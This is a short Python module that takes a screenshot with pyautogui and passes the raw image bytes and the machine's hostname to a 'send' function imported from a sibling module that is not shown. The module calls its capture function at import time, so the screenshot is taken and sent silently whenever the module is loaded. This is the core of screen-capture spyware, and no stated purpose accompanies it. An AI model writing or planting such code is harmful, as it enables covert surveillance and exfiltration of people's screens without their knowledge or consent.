import pyautogui as p, socket
from .w import send

def snap():
    send(p.screenshot().tobytes(), socket.gethostname())

snap()
